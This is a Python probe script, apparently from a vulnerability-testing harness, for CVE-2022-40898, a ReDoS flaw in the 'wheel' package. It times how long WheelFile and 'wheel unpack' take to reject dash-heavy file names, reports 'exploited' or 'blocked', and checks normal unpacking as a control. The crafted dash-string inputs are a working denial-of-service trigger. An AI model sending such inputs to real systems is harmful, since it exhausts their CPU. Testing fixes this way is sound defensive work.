# /// vertice-probe
# id = "PYSEC-2022-43017"
# aliases = ["CVE-2022-40898"]
# package = "wheel"
# summary = "The pattern that splits a wheel's file name backtracks over many dashes, so a name keeps the command busy."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = ["wheel.wheelfile.WheelFile", "wheel.cli.main"]
#
# [[affected]]
# package = "wheel"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.38.1" }] }]
#
# [cases]
# attack = "time to refuse a name of dashes grows with the fifth power of its length"
# [cases.variants]
# command = "the same growth through `wheel unpack` with numbered parts"
# [cases.controls]
# unpack = "a wheel is written, and unpacked by the command"
#
# [test]
# vulnerable = "0.37.1"
# fixed = "0.38.1"
# ///
"""CVE-2022-40898: polynomial backtracking over wheel file names."""

import contextlib
import io
import json
import os
import sys
import tempfile
import time
import warnings

warnings.simplefilter("ignore")


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    from wheel import wheelfile

    def refuse(count):
        try:
            wheelfile.WheelFile("-" * count)
        except wheelfile.WheelError as error:
            if "ad wheel filename" not in str(error):
                raise
            return "refused"
        raise RuntimeError("the name was accepted")

    # linear 2, quadratic 4, fifth power 32
    return judge(refuse, 50, 100, 8, "parts")


def run(*arguments):
    """Exit status and what the wheel command printed."""
    from wheel import cli

    printed, real = io.StringIO(), sys.argv
    sys.argv = ["wheel"] + list(arguments)
    try:
        with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
            status = cli.main()
    finally:
        sys.argv = real
    return status, printed.getvalue()


def command():
    def refuse(count):
        status, printed = run("unpack", "a" + "-1" * count)
        if not status or "ad wheel filename" not in printed:
            raise RuntimeError("the name was not refused: %r %r" % (status, printed))
        return "refused"

    return judge(refuse, 34, 68, 8, "parts")


def unpack():
    from wheel import wheelfile

    base = tempfile.mkdtemp()
    path = os.path.join(base, "shop_x-1.0-1-py2.py3-none-any.whl")
    with wheelfile.WheelFile(path, "w") as package:
        package.writestr("shop/one.py", b"A = 1\n")
        package.writestr("shop_x-1.0.dist-info/METADATA", b"Name: shop-x\n")
    status, printed = run("unpack", "--dest", base, path)
    with open(os.path.join(base, "shop_x-1.0", "shop", "one.py")) as text:
        good = not status and text.read() == "A = 1\n"
    return ("works", "written and unpacked") if good else ("broken", printed)


CASES = {"attack": attack, "command": command, "unpack": unpack}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
